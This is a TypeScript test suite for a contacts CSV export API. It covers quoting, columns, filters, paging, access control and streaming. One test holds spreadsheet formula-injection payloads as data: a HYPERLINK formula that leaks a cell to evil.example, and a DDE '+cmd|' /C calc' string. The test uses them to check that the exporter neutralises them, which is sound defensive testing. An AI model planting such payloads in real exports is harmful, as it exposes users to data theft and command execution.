import http from "node:http";
import { describe, expect, it } from "vitest";
import { DEFAULT_SETTINGS } from "../src/core/deps.js";
import { type ContactsCsvOptions, contactsCsv } from "../src/core/exports/contacts-csv.js";
import { csvRow } from "../src/core/exports/csv.js";
import { exportCsvBatch } from "../src/store/contact-export.js";
import { sql } from "../src/store/sql.js";
import { basicAuth, type Credentials, httpClient, newAccount, useServer } from "./harness.js";

/**
 * A strict RFC 4180 reader, independent of the server's encoder: every record must end in CRLF,
 * quotes only open a field, and a quote inside a quoted field is doubled.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = "";
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error("unterminated quoted field");
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else {
          field += text[i++];
        }
      }
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r" && text[i] !== "\n") {
        if (text[i] === '"') throw new Error(`bare quote in unquoted field at ${i}`);
        field += text[i++];
      }
    }
    record.push(field);
    if (text[i] === ",") {
      i++;
    } else if (text.startsWith("\r\n", i)) {
      records.push(record);
      record = [];
      i += 2;
    } else {
      throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 10))}`);
    }
  }
  if (record.length > 0) throw new Error("last record is not terminated by CRLF");
  return records;
}

/** Header + rows as objects keyed by column name. */
function table(text: string): { header: string[]; rows: Record<string, string>[] } {
  const [header = [], ...rest] = parseCsv(text);
  for (const row of rest) expect(row).toHaveLength(header.length);
  return { header, rows: rest.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i] ?? ""]))) };
}

const DEFAULT_HEADER = [
  "id",
  "name",
  "email",
  "phone_number",
  "identifier",
  "labels",
  "created_at",
  "updated_at",
  "last_activity_at",
  "blocked",
];

describe("contacts CSV export", () => {
  const fixture = useServer({ defaultCountry: "US" });

  /** The export's raw bytes and text (decoded keeping any BOM, which fetch's text() would drop). */
  async function download(credentials: { key: string; secret: string }, query = "", init: RequestInit = {}) {
    const response = await fetch(`${fixture.server.url}/v1/contacts/export.csv${query}`, {
      ...init,
      headers: { authorization: basicAuth(credentials) },
    });
    const bytes = new Uint8Array(await response.arrayBuffer());
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    return { status: response.status, headers: response.headers, bytes, text };
  }

  /** A new account of its own, for tests that need to know every contact in it. */
  async function freshAccount() {
    const credentials = await newAccount(fixture.server.db);
    const api = httpClient(fixture.server.url, basicAuth(credentials));
    const create = async (body: Record<string, unknown>) => {
      const res = await api("POST", "/v1/contacts", body);
      expect(res.status).toBe(201);
      return res.body;
    };
    return { credentials, api, create, csv: (query = "") => download(credentials, query) };
  }

  const ids = (rows: Record<string, string>[]) => rows.map((row) => row.id);

  /** The export's chunks straight from core, as a face receives them: one per batch. */
  async function coreChunks(credentials: Credentials, options: ContactsCsvOptions): Promise<Buffer[]> {
    const { accountId, userId, keyId } = credentials;
    const actor = { accountId, userId, role: "agent" as const, credentialId: keyId };
    const deps = { db: fixture.server.db, blobs: fixture.server.blobs, settings: DEFAULT_SETTINGS };
    const chunks: Buffer[] = [];
    for await (const chunk of await contactsCsv(deps, actor, options)) chunks.push(chunk);
    return chunks;
  }

  it("streams a header and every contact with the default columns, in id order", async () => {
    const account = await freshAccount();
    const alice = await account.create({
      name: "Alice Example",
      email: "Alice@Example.com",
      phone_number: "(415) 555-0100",
      identifier: "crm-alice",
      labels: ["VIP", "lead"],
    });
    const bob = await account.create({ name: "Bob" });
    const res = await account.csv();
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="contacts-${today}.csv"`);
    expect(res.headers.get("x-request-id")).toMatch(/^req_/);
    expect(res.bytes[0]).not.toBe(0xef);
    expect(res.text.endsWith("\r\n")).toBe(true);
    const { header, rows } = table(res.text);
    expect(header).toEqual(DEFAULT_HEADER);
    expect(rows).toEqual([
      {
        id: alice.id,
        name: "Alice Example",
        email: "alice@example.com",
        phone_number: "+14155550100",
        identifier: "crm-alice",
        labels: "lead,vip",
        created_at: alice.created_at,
        updated_at: alice.updated_at,
        last_activity_at: "",
        blocked: "false",
      },
      {
        id: bob.id,
        name: "Bob",
        email: "",
        phone_number: "",
        identifier: "",
        labels: "",
        created_at: bob.created_at,
        updated_at: bob.updated_at,
        last_activity_at: "",
        blocked: "false",
      },
    ]);
    // Several labels share one quoted cell.
    expect(res.text).toContain(',"lead,vip",');
  });

  it("answers with a header only for an account with no contacts", async () => {
    const account = await freshAccount();
    const res = await account.csv();
    expect(res.status).toBe(200);
    expect(res.text).toBe(`${DEFAULT_HEADER.join(",")}\r\n`);
  });

  it("is not taken for a contact id, and /contacts/:id still answers", async () => {
    const { api } = fixture;
    const created = (await api("POST", "/v1/contacts", { name: "Route check" })).body;
    const res = await api("GET", "/v1/contacts/export.csv");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    expect((await api("GET", `/v1/contacts/${created.id}`)).body.name).toBe("Route check");
    expect((await api("GET", "/v1/contacts/export.json")).status).toBe(404);
  });

  it("exports chosen columns in the order given, attributes one key per column", async () => {
    const account = await freshAccount();
    const contact = await account.create({
      name: "Chosen",
      phone_number: "+1 415 555 0101",
      avatar_url: "https://cdn.example.com/a.png",
      blocked: true,
      labels: ["b", "a"],
      additional_attributes: { city: "Hà Nội", company_name: "Acme, Inc." },
      custom_attributes: { plan: "pro", seats: 12, score: -5, trial: false, meta: { tags: ["x", "y"], n: 1 } },
    });
    const query =
      "?columns=id,custom_attributes.plan,custom_attributes.seats&columns=custom_attributes.score" +
      "&columns=custom_attributes.trial,custom_attributes.meta,custom_attributes.missing" +
      "&columns=additional_attributes.city,additional_attributes.company_name,labels,blocked,avatar_url" +
      "&columns=phone_number,phone_number_raw,display_name,custom_attributes";
    const res = await account.csv(query);
    expect(res.status).toBe(200);
    const { header, rows } = table(res.text);
    expect(header).toEqual([
      "id",
      "custom_attributes.plan",
      "custom_attributes.seats",
      "custom_attributes.score",
      "custom_attributes.trial",
      "custom_attributes.meta",
      "custom_attributes.missing",
      "additional_attributes.city",
      "additional_attributes.company_name",
      "labels",
      "blocked",
      "avatar_url",
      "phone_number",
      "phone_number_raw",
      "display_name",
      "custom_attributes",
    ]);
    expect(rows).toEqual([
      {
        id: contact.id,
        "custom_attributes.plan": "pro",
        "custom_attributes.seats": "12",
        // A number is a number: no quote mark, although it starts with "-".
        "custom_attributes.score": "-5",
        "custom_attributes.trial": "false",
        "custom_attributes.meta": expect.any(String),
        "custom_attributes.missing": "",
        "additional_attributes.city": "Hà Nội",
        "additional_attributes.company_name": "Acme, Inc.",
        labels: "a,b",
        blocked: "true",
        avatar_url: "https://cdn.example.com/a.png",
        phone_number: "+14155550101",
        phone_number_raw: "'+1 415 555 0101",
        display_name: "Chosen",
        custom_attributes: expect.any(String),
      },
    ]);
    // Nested values as JSON (key order is the database's).
    expect(JSON.parse(rows[0]?.["custom_attributes.meta"] ?? "")).toEqual({ tags: ["x", "y"], n: 1 });
    expect(JSON.parse(rows[0]?.custom_attributes ?? "")).toEqual(contact.custom_attributes);
  });

  it("gives uploaded avatars as absolute URLs, as the API renders them", async () => {
    const account = await freshAccount();
    const contact = await account.create({ name: "Pictured" });
    await fixture.server.db.execute(
      sql`UPDATE contacts SET avatar_url = '/avatars/abc123.png' WHERE account_id = ${account.credentials.accountId}`,
    );
    const rendered = (await account.api("GET", `/v1/contacts/${contact.id}`)).body.avatar_url;
    expect(rendered).toBe(`${fixture.server.url}/avatars/abc123.png`);
    const res = await account.csv("?columns=avatar_url");
    expect(table(res.text).rows).toEqual([{ avatar_url: rendered }]);
  });

  it("quotes fields per RFC 4180 and keeps unicode intact", async () => {
    const account = await freshAccount();
    const names = [
      "Doe, John",
      'The "Boss"',
      "Line one\nLine two",
      "Windows\r\nline",
      "Nguyễn Văn A",
      "👩‍💻 Dev 🚀",
      "Zoë Ørsted-Łukasz",
    ];
    for (const name of names) await account.create({ name, custom_attributes: { note: `${name}, again` } });
    const res = await account.csv("?columns=name,custom_attributes.note");
    const { rows } = table(res.text);
    expect(rows.map((row) => row.name)).toEqual(names);
    expect(rows.map((row) => row["custom_attributes.note"])).toEqual(names.map((name) => `${name}, again`));
    expect(res.text).toContain('\r\n"Doe, John",');
    expect(res.text).toContain('\r\n"The ""Boss""",');
    expect(res.text).toContain('\r\n"Line one\nLine two",');
    expect(res.text).toContain("\r\nNguyễn Văn A,");
    // Emoji travel as UTF-8 bytes: the 4-byte form of 🚀.
    expect(Buffer.from(res.bytes).includes(Buffer.from([0xf0, 0x9f, 0x9a, 0x80]))).toBe(true);
  });

  it("neutralises spreadsheet formulas in every text cell", async () => {
    const account = await freshAccount();
    const dangerous = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      "-1+1",
      "@SUM(A1:A9)",
      "\t=1+1",
      "\r=1+1",
    ];
    const created: { id: string; note: string }[] = [];
    for (const [index, note] of dangerous.entries()) {
      // Names are trimmed on write, so the leading tab and CR cases live in an attribute only.
      const name = note.trim() === note ? note : `Tab or CR ${index}`;
      const contact = await account.create({ name, identifier: `=id-${index}`, custom_attributes: { note } });
      created.push({ id: contact.id, note });
    }
    await account.create({ name: "Labelled", labels: ["=cmd", "ok"] });
    const res = await account.csv("?columns=id,name,identifier,custom_attributes.note,labels");
    const { rows } = table(res.text);
    for (const [index, { id, note }] of created.entries()) {
      const row = rows.find((r) => r.id === id);
      expect(row?.["custom_attributes.note"]).toBe(`'${note}`);
      expect(row?.identifier).toBe(`'=id-${index}`);
      if (note.trim() === note) expect(row?.name).toBe(`'${note}`);
    }
    expect(rows.find((row) => row.name === "Labelled")?.labels).toBe("'=cmd,ok");
    // The quote mark goes inside the quoted field; quotes in the formula are doubled.
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
    expect(res.text).toContain(`"'\r=1+1"`);
    // No cell anywhere starts with a formula character except E.164 numbers.
    for (const row of parseCsv(res.text)) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("formats every cell in the database exactly as the CSV encoder would", async () => {
    const account = await freshAccount();
    const values: unknown[] = [
      "plain",
      "a,b",
      'say "hi"',
      "line\nbreak",
      "cr\rhere",
      "=1+1",
      "+14155550101",
      "+1 415",
      "-5",
      "@x",
      "\tlead",
      " spaced ",
      "ünïcödé 🚀",
      "'quoted'",
      "",
      12,
      -3.5,
      true,
      false,
      null,
      { nested: ["x", 1] },
      [1, "two"],
    ];
    const ids: string[] = [];
    for (const [index, value] of values.entries()) {
      ids.push((await account.create({ name: `Value ${index}`, custom_attributes: { v: value } })).id);
    }
    const res = await account.csv("?columns=id,custom_attributes.v,custom_attributes.absent&sort=id");
    const lines = res.text.split("\r\n").slice(1, -1);
    expect(lines).toHaveLength(values.length);
    for (const [index, value] of values.entries()) {
      const cell = value !== null && typeof value === "object" ? null : (value as string | number | boolean | null);
      if (cell === null && value !== null) {
        // Nested values are JSON in the database's own spelling: the same value, quoted as a field.
        const [, json] = parseCsv(`${lines[index]}\r\n`)[0] ?? [];
        expect(JSON.parse(json ?? "")).toEqual(value);
        continue;
      }
      expect(`${lines[index]}\r\n`, JSON.stringify(value)).toBe(csvRow([ids[index], cell, null]));
    }
  });

  it("leaves E.164 phone numbers readable", async () => {
    const account = await freshAccount();
    await account.create({ name: "+14155550102", phone_number: "+44 20 7946 0001" });
    await account.create({ name: "Phone text", phone_number: "4155550103" });
    const res = await account.csv("?columns=name,phone_number,phone_number_raw");
    const { rows } = table(res.text);
    expect(rows).toEqual([
      { name: "+14155550102", phone_number: "+442079460001", phone_number_raw: "'+44 20 7946 0001" },
      { name: "Phone text", phone_number: "+14155550103", phone_number_raw: "4155550103" },
    ]);
    expect(res.text).toContain("\r\n+14155550102,+442079460001,");
  });

  it("starts with a UTF-8 byte order mark when asked for", async () => {
    const account = await freshAccount();
    await account.create({ name: "Ðặng" });
    const withBom = await account.csv("?bom=true&columns=name");
    expect([...withBom.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withBom.text).toBe("\uFEFFname\r\nÐặng\r\n");
    const without = await account.csv("?bom=false&columns=name");
    expect(without.text).toBe("name\r\nÐặng\r\n");
  });

  it("filters by search term and labels with the semantics of search and list", async () => {
    const account = await freshAccount();
    const alpha = await account.create({ name: "Zed Alpha", labels: ["team-a"], phone_number: "+1 415 555 0110" });
    const beta = await account.create({ name: "Zed Beta", email: "zb@example.com", labels: ["team-b"] });
    const other = await account.create({ name: "Other", labels: ["team-a", "x"] });
    const none = await account.create({ name: "Nobody", additional_attributes: { company_name: "Zedcorp" } });
    const exported = async (query: string) => {
      const res = await account.csv(`?columns=id&${query}`);
      expect(res.status).toBe(200);
      return ids(table(res.text).rows);
    };
    const searched = async (query: string) => {
      const res = await account.api("GET", `/v1/contacts/search?limit=200&${query}`);
      return res.body.data.map((c: { id: string }) => c.id).sort((a: string, b: string) => Number(a) - Number(b));
    };
    for (const q of ["zed", "ZE", "(415) 555-01", "5550110", "example.com", "corp", "zz-none"]) {
      const query = `q=${encodeURIComponent(q)}`;
      expect(await exported(query)).toEqual(await searched(query));
    }
    expect(await exported("q=zed")).toEqual([alpha.id, beta.id, none.id]);
    expect(await exported("labels=team-a")).toEqual([alpha.id, other.id]);
    expect(await exported("labels=team-a,team-b")).toEqual([alpha.id, beta.id, other.id]);
    expect(await exported("labels=TEAM-B&labels=x")).toEqual([beta.id, other.id]);
    expect(await exported("q=zed&labels=team-a")).toEqual([alpha.id]);
    expect(await exported("q=%20%20")).toEqual([alpha.id, beta.id, other.id, none.id]);
  });

  it("sorts like the list route when asked", async () => {
    const account = await freshAccount();
    for (const [name, email] of [
      ["carol", "c@example.com"],
      ["Alice", null],
      ["bob", "b@example.com"],
      ["alice", "a@example.com"],
      ["Dave", null],
    ]) {
      await account.create({ name, email });
    }
    for (const query of ["sort=name", "sort=name&direction=desc", "sort=email", "sort=email&direction=desc"]) {
      const list = await account.api("GET", `/v1/contacts?limit=200&${query}`);
      const res = await account.csv(`?columns=id&${query}`);
      expect(ids(table(res.text).rows)).toEqual(list.body.data.map((c: { id: string }) => c.id));
    }
    const desc = await account.csv("?columns=id&direction=desc");
    const asc = await account.csv("?columns=id");
    expect(ids(table(desc.text).rows)).toEqual(ids(table(asc.text).rows).reverse());
  });

  it("never shows another account's contacts", async () => {
    const mine = await freshAccount();
    const theirs = await freshAccount();
    const own = await mine.create({ name: "Shared Name", email: "same@example.com", labels: ["common"] });
    const foreign = await theirs.create({ name: "Shared Name", email: "same@example.com", labels: ["common"] });
    for (const query of ["", "?q=shared", "?labels=common", "?q=same@example.com&labels=common"]) {
      const res = await mine.csv(query);
      expect(ids(table(res.text).rows)).toEqual([own.id]);
      const other = await theirs.csv(query);
      expect(ids(table(other.text).rows)).toEqual([foreign.id]);
    }
  });

  it("refuses unknown columns with 422 naming them, before sending any CSV", async () => {
    const { api } = fixture;
    const res = await api("GET", "/v1/contacts/export.csv?columns=name,bogus,custom_attributes.,secret.thing");
    expect(res.status).toBe(422);
    expect(res.headers.get("content-type")).toMatch(/^application\/json/);
    expect(res.headers.get("content-disposition")).toBeNull();
    expect(res.body.error.code).toBe("invalid_fields");
    const details = res.body.error.details as { field: string; code: string; message: string }[];
    expect(details.map((d) => [d.field, d.code])).toEqual([
      ["columns", "unknown_column"],
      ["columns", "invalid_column"],
      ["columns", "unknown_column"],
    ]);
    expect(details[0]?.message).toContain('"bogus"');
    expect(details[2]?.message).toContain('"secret.thing"');
    const badSort = await api("GET", "/v1/contacts/export.csv?sort=password");
    expect(badSort.status).toBe(422);
    expect(badSort.body.error.details[0].field).toBe("sort");
    const badLabel = await api("GET", "/v1/contacts/export.csv?labels=a,%01b");
    expect(badLabel.status).toBe(422);
    const unknownParam = await api("GET", "/v1/contacts/export.csv?limit=5");
    expect(unknownParam.status).toBe(422);
  });

  it("lets agents export and refuses strangers", async () => {
    const { api, agent, admin } = fixture;
    await api("POST", "/v1/contacts", { name: "Agent visible" });
    const asAgent = await download(agent, "?columns=id,name");
    const asAdmin = await download(admin, "?columns=id,name");
    expect(asAgent.status).toBe(200);
    expect(asAgent.text).toBe(asAdmin.text);
    expect(asAgent.text).toContain("Agent visible");
    const stranger = await fetch(`${fixture.server.url}/v1/contacts/export.csv`);
    expect(stranger.status).toBe(401);
    expect(stranger.headers.get("content-type")).toMatch(/^application\/json/);
  });

  it("streams 5,000 contacts completely, each once, across batch boundaries", async () => {
    const account = await freshAccount();
    const accountId = account.credentials.accountId;
    await fixture.server.db.execute(sql`
      INSERT INTO contacts (account_id, name, email, custom_attributes)
      SELECT ${accountId}, 'Bulk ' || g, 'bulk' || g || '@example.com', jsonb_build_object('n', g)
      FROM generate_series(1, 5000) AS g`);
    const expected = (
      await fixture.server.db.query<{ id: number }>(
        sql`SELECT id FROM contacts WHERE account_id = ${accountId} ORDER BY id`,
      )
    ).map((row) => String(row.id));
    expect(expected).toHaveLength(5000);
    const res = await account.csv("?columns=id,name,email,custom_attributes.n");
    expect(res.status).toBe(200);
    // Sent as it is produced, not measured up front.
    expect(res.headers.get("content-length")).toBeNull();
    const { rows } = table(res.text);
    expect(rows).toHaveLength(5000);
    expect(ids(rows)).toEqual(expected);
    for (const row of rows) expect(row.name).toBe(`Bulk ${row["custom_attributes.n"]}`);
    const filtered = await account.csv("?columns=id&q=bulk499");
    expect(ids(table(filtered.text).rows)).toHaveLength(11); // bulk499 and bulk4990..bulk4999
  });

  it("pages by the sort key and id, with ties and empty values, without losing or repeating a row", async () => {
    const credentials: Credentials = await newAccount(fixture.server.db);
    const accountId = credentials.accountId;
    // Repeated names and cities, and missing emails and cities, so batches end inside runs of equal values.
    await fixture.server.db.execute(sql`
      INSERT INTO contacts (account_id, name, email, additional_attributes)
      SELECT ${accountId}, 'Name ' || (g % 7),
        CASE WHEN g % 3 = 0 THEN NULL ELSE 'p' || g || '@example.com' END,
        CASE WHEN g % 4 = 0 THEN '{}'::jsonb ELSE jsonb_build_object('city', 'City ' || (g % 5)) END
      FROM generate_series(1, 250) AS g`);
    const api = httpClient(fixture.server.url, basicAuth(credentials));
    for (const sort of ["name", "email", "city", "created_at"] as const) {
      for (const direction of ["asc", "desc"] as const) {
        const chunks = await coreChunks(credentials, { columns: ["id"], sort, direction, batchSize: 7 });
        expect(chunks.length).toBe(Math.ceil(250 / 7));
        const exported = ids(table(Buffer.concat(chunks).toString()).rows);
        expect(new Set(exported).size).toBe(250);
        // The same order as the list route, page after page.
        const listed: string[] = [];
        let cursor: string | null = null;
        do {
          const page: { body: { data: { id: string }[]; next_cursor: string | null } } = await api(
            "GET",
            `/v1/contacts?limit=200&sort=${sort}&direction=${direction}${cursor ? `&cursor=${cursor}` : ""}`,
          );
          listed.push(...page.body.data.map((c) => c.id));
          cursor = page.body.next_cursor;
        } while (cursor);
        expect(exported).toEqual(listed);
      }
    }
    // A count that fills the last batch exactly: the empty read after it adds nothing.
    const chunks = await coreChunks(credentials, { columns: ["id"], batchSize: 50 });
    expect(chunks).toHaveLength(5);
    expect(parseCsv(Buffer.concat(chunks).toString())).toHaveLength(251);
  });

  it("gives each contact its own labels, read by id range or contact by contact, with other accounts' contacts between its ids", async () => {
    const account = await freshAccount();
    const other = await freshAccount();
    const expected = new Map<string, string>();
    for (let i = 0; i < 24; i++) {
      const labels = [["alpha"], ["Beta", "alpha"], [], ["gamma"]][i % 4] as string[];
      const contact = await account.create({ name: `Contact ${String(24 - i).padStart(2, "0")}`, labels });
      expected.set(
        contact.id,
        labels
          .map((label) => label.toLowerCase())
          .sort()
          .join(","),
      );
      await other.create({ name: `Other ${i}`, labels: ["alpha", "other"] });
    }
    const exports = [
      { columns: ["id", "labels"], batchSize: 5 }, // sorted by id, unfiltered: links by id range
      { columns: ["id", "labels"], batchSize: 5, sort: "name" as const }, // contact by contact
      { columns: ["id", "labels"], batchSize: 5, labels: ["alpha", "gamma"] },
    ];
    for (const options of exports) {
      const { rows } = table(Buffer.concat(await coreChunks(account.credentials, options)).toString());
      const wanted = [...expected].filter(([, labels]) => !options.labels || labels !== "");
      expect(rows, JSON.stringify(options)).toHaveLength(wanted.length);
      for (const row of rows)
        expect(row.labels, `${row.id} ${JSON.stringify(options)}`).toBe(expected.get(row.id ?? ""));
    }
  });

  it("keeps the page's order however the database joins the labels to it", async () => {
    const account = await freshAccount();
    // Names in the opposite order to ids, so a join that returns rows by contact id reorders them.
    for (let i = 0; i < 12; i++)
      await account.create({ name: `Name ${String(12 - i).padStart(2, "0")}`, labels: [`l${i % 3}`] });
    const query = {
      sort: "name" as const,
      direction: "asc" as const,
      labels: [],
      search: null,
      after: null,
      limit: 10,
      columns: [{ field: "id" as const }, { field: "name" as const }, { field: "labels" as const }],
      baseUrl: "",
    };
    const db = fixture.server.db;
    const planned = await exportCsvBatch(db, account.credentials.accountId, query);
    // A merge join on the contact id gives the rows in id order.
    const merged = await db.transaction(async (tx) => {
      await tx.execute(sql`SET LOCAL enable_hashjoin = off`);
      await tx.execute(sql`SET LOCAL enable_nestloop = off`);
      return exportCsvBatch(tx, account.credentials.accountId, query);
    });
    const names = parseCsv(planned.bytes.toString()).map(([, name]) => name);
    expect(names).toEqual(names.toSorted());
    expect(names).toHaveLength(10);
    expect(merged.bytes.toString()).toBe(planned.bytes.toString());
    expect(merged.last).toEqual(planned.last);
  });

  it("survives a client that goes away mid-download and keeps serving others", async () => {
    const account = await freshAccount();
    await fixture.server.db.execute(sql`
      INSERT INTO contacts (account_id, name, custom_attributes)
      SELECT ${account.credentials.accountId}, 'Gone ' || g, jsonb_build_object('pad', repeat('x', 2000))
      FROM generate_series(1, 3000) AS g`);
    // node:http rather than fetch: an aborted fetch leaves a spare idle connection open, which
    // would hold up the server's close.
    const received = await new Promise<number>((resolve, reject) => {
      const url = `${fixture.server.url}/v1/contacts/export.csv?columns=name,custom_attributes.pad`;
      const request = http.get(url, { headers: { authorization: basicAuth(account.credentials) } }, (response) => {
        expect(response.statusCode).toBe(200);
        response.once("data", (chunk: Buffer) => {
          request.destroy();
          resolve(chunk.length);
        });
      });
      request.on("error", (error) => {
        if (!request.destroyed) reject(error);
      });
    });
    expect(received).toBeGreaterThan(0);
    const after = await account.csv("?columns=id&q=gone%20299");
    expect(after.status).toBe(200);
    expect(table(after.text).rows).toHaveLength(11);
  });
});
